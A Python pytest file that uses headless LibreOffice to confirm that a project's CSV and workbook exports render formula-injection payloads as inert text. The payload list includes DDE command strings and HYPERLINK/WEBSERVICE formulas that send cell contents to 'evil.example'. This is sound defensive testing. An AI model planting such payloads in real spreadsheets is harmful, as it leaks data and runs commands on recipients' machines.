"""Files for people, opened by LibreOffice: nothing is computed, and every cell says what the frame said.

LibreOffice is not among what the project installs; where it is not there these tests are skipped.
"""

import csv
import re
import shutil
import subprocess
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from foretell.delivery.csv_files import write_csv
from foretell.delivery.workbook import write_workbook

PROGRAM = shutil.which("soffice") or shutil.which("libreoffice")
pytestmark = [
    pytest.mark.office,
    pytest.mark.skipif(PROGRAM is None, reason="LibreOffice Calc is not installed (Debian: libreoffice-calc)"),
]

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "  @", "\t=", "\r\n="]
PAYLOADS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{sign}cmd|' /C calc'!A0" for sign in SIGNS),
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "=1+1;=2+2",
    'harmless","=1+1',
    'harmless";"=1+1',
    "harmless;=1+1",
    "harmless,=1+1",
    "harmless\n=1+1",
    'harmless" ;@SUM(1)',
    "harmless\t=1+1",
    "+31612345678-1",
]
PLAIN = ["a-b", "x; y", "a, b", 'quo"te', "정", "Valéry", "a@b.nl", "line\nbreak"]
WORDS = [*PAYLOADS, *PLAIN]
FRAME = pl.DataFrame(
    {
        "customer_id": [f"c{number:03d}" for number in range(len(WORDS))],
        "words": WORDS,
        "=1+1": WORDS[::-1],
        "money": [-1234.5 + number for number in range(len(WORDS))],
        "orders": range(len(WORDS)),
        "last_order_date": [date(2026, 1, 2)] * len(WORDS),
        "overdue": [number % 2 == 0 for number in range(len(WORDS))],
    }
)
TRUTHS = {"=TRUE()": True, "=FALSE()": False}
ENGLISH, GERMAN = 1033, 1031
Opened = Callable[..., "openpyxl.worksheet.worksheet.Worksheet"]


def comma_separated(separator: str, language: int) -> str:
    """How a person opens a file: UTF-8, numbers and dates recognised, and formulas run if there are any."""
    return f"Text - txt - csv (StarCalc):{ord(separator)},34,76,1,,{language},false,true,false,false,false,0,true"


@pytest.fixture
def opened(tmp_path: Path) -> Opened:
    def convert(path: Path, filter_: str | None = None) -> "openpyxl.worksheet.worksheet.Worksheet":
        folder = tmp_path / "opened"
        command = [str(PROGRAM), f"-env:UserInstallation=file://{tmp_path}/profile", "--headless"]
        command += [] if filter_ is None else [f"--infilter={filter_}"]
        command += ["--convert-to", "xlsx", "--outdir", str(folder), str(path)]
        subprocess.run(command, check=True, capture_output=True, timeout=180)
        return openpyxl.load_workbook(folder / f"{path.stem}.xlsx").worksheets[0]

    return convert


def formulas(sheet: "openpyxl.worksheet.worksheet.Worksheet") -> list[str]:
    found = [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type in {"f", "e"}]
    # So LibreOffice stores yes and no.
    return [text for text in found if text not in TRUTHS]


def test_a_file_without_the_guard_would_run(tmp_path: Path, opened: Opened) -> None:
    (tmp_path / "bare.csv").write_text('words\n=1+1\n"=2+2"\n', encoding="utf-8")
    assert len(formulas(opened(tmp_path / "bare.csv", comma_separated(",", ENGLISH)))) == 2


@pytest.mark.parametrize(("decimal_comma", "language"), [(False, ENGLISH), (True, GERMAN)])
def test_a_csv_shows_what_was_written_and_runs_nothing(
    tmp_path: Path, opened: Opened, decimal_comma: bool, language: int
) -> None:
    path = tmp_path / "review.csv"
    write_csv(FRAME, path, {"money": 2}, decimal_comma=decimal_comma)
    separator = ";" if decimal_comma else ","
    sheet = opened(path, comma_separated(separator, language))
    assert formulas(sheet) == []
    with path.open(newline="", encoding="utf-8-sig") as file:
        written = list(csv.reader(file, delimiter=separator))
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert len(rows) == len(written) == FRAME.height + 1
    for row, cells in zip(rows[1:], written[1:], strict=True):
        assert [one_end(cell) for cell in row[:3]] == [one_end(cell) for cell in cells[:3]]
    for name, place in (("money", 3), ("orders", 4)):
        assert [row[place] for row in rows[1:]] == FRAME[name].to_list()
    assert [row[5] for row in rows[1:]] == [datetime(2026, 1, 2)] * FRAME.height
    # Only English has the words true and false; elsewhere they stay words.
    said = [str(TRUTHS.get(row[6], row[6])).lower() for row in rows[1:]]
    assert said == [str(overdue).lower() for overdue in FRAME["overdue"]]


@pytest.mark.parametrize(("decimal_comma", "separator"), [(False, ";"), (True, ","), (False, "\t")])
def test_a_csv_opened_with_another_separator_runs_nothing(
    tmp_path: Path, opened: Opened, decimal_comma: bool, separator: str
) -> None:
    path = tmp_path / "review.csv"
    write_csv(FRAME, path, decimal_comma=decimal_comma)
    assert formulas(opened(path, comma_separated(separator, ENGLISH))) == []


def test_a_workbook_shows_the_frame_and_runs_nothing(tmp_path: Path, opened: Opened) -> None:
    path = tmp_path / "review.xlsx"
    dictionary = pl.DataFrame({"column": ["=1+1"], "meaning": ["=who"]})
    ids = ["00123", "+31612345678", "4.41E+11", *FRAME["customer_id"].to_list()[3:]]
    frame = FRAME.with_columns(customer_id=pl.Series(ids))
    write_workbook({"=cmd": frame}, dictionary, path, units={"money": "money"}, made=datetime(2026, 11, 1))
    sheet = opened(path)
    assert formulas(sheet) == []
    rows = [tuple(cell.value for cell in row) for row in sheet.iter_rows(min_row=2)]
    expected = [(*(one_end(cell) for cell in row[:5]), datetime(2026, 1, 2), row[6]) for row in frame.rows()]
    assert [tuple(one_end(TRUTHS.get(cell, cell)) for cell in row) for row in rows] == expected


def one_end(cell: object) -> object:
    """LibreOffice keeps every line end as a line feed; the workbook format spells a carriage return out."""
    return re.sub("_x000D_\n|_x000D_|\r\n|\r", "\n", cell) if isinstance(cell, str) else cell
